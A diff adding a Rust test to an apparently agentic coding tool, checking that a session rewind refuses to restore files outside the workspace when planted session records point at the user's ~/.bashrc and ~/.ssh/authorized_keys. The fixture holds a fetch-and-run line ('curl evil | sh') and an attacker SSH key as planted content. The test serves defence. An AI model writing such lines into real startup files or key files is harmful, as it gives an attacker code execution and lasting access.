@@ -321,3 +321,66 @@ async fn a_change_recorded_but_never_made_is_panto_s_own_and_a_rewind_restores_o
     assert_eq!(std::fs::read(&b).unwrap(), b"b as it was");
     assert!(agent.conversation().messages.is_empty());
 }
+
+#[tokio::test]
+async fn a_rewind_restores_no_file_outside_the_workspace_whatever_the_session_s_records_say() {
+    // A session file is as trustworthy as whoever could write it: these records, planted in it,
+    // say panto's turn left the user's `~/.bashrc` and `~/.ssh/authorized_keys` holding what
+    // they hold now, and that before the turn they held the attacker's content. A rewind must
+    // restore the workspace's file and leave those alone, saying so.
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().canonicalize().unwrap();
+    let (work, home) = (root.join("work"), root.join("home"));
+    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+    std::fs::create_dir(&work).unwrap();
+    let inside = work.join("a.txt");
+    std::fs::write(&inside, ORIGINAL).unwrap();
+    let (bashrc, keys) = (home.join(".bashrc"), home.join(".ssh/authorized_keys"));
+    std::fs::write(&bashrc, b"# the user's bashrc\n").unwrap();
+    std::fs::write(&keys, b"ssh-ed25519 AAAA the-user\n").unwrap();
+
+    let store = MemoryStore::new();
+    let turn0 = [Change {
+        file: "a.txt",
+        after: b"turn 0\n",
+        made: true,
+    }];
+    let (id, prompts) = session_with(&store, &work, &[&turn0]).await;
+    let planted = FileCheckpoints::new(store.clone(), &id);
+    for (path, evil) in [
+        (&bashrc, &b"curl evil | sh\n"[..]),
+        (&keys, &b"ssh-ed25519 AAAA the-attacker\n"[..]),
+    ] {
+        let now = std::fs::read(path).unwrap();
+        planted
+            .record_change(path.to_str().unwrap(), Some(evil), Some(&now))
+            .await
+            .unwrap();
+    }
+
+    let mut agent = resume(store.clone(), &id).await;
+    let report = toolbox(&work).rewind_with_files(&mut agent, &prompts[0]).await.unwrap();
+    assert_eq!(
+        std::fs::read(&inside).unwrap(),
+        ORIGINAL,
+        "the workspace's file is restored"
+    );
+    assert_eq!(std::fs::read(&bashrc).unwrap(), b"# the user's bashrc\n");
+    assert_eq!(std::fs::read(&keys).unwrap(), b"ssh-ed25519 AAAA the-user\n");
+    let outcome = |path: &Path| {
+        report
+            .iter()
+            .find(|f| f.path == path.to_str().unwrap())
+            .map(|f| f.outcome.clone())
+    };
+    assert_eq!(outcome(&inside), Some(FileOutcome::Restored), "{report:?}");
+    for path in [&bashrc, &keys] {
+        match outcome(path) {
+            Some(FileOutcome::Failed { error }) => {
+                assert!(error.contains("is outside the workspace"), "{error}");
+                assert!(error.contains(work.to_str().unwrap()), "names the workspace: {error}");
+            }
+            other => panic!("{} must be reported left alone, got {other:?}", path.display()),
+        }
+    }
+}
